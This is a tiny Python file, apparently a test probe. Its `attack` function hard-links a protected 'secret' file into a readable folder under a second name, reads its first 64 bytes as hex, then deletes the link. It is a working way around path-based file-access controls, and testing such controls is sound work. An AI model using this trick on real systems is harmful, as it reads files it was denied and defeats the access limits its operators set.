"""Gives the secret a second name in its own folder, where everything may be read."""

import os


def attack(path):
    os.link(path, "a second name")
    try:
        with open("a second name", "rb") as file:
            return file.read(64).hex()
    finally:
        os.unlink("a second name")
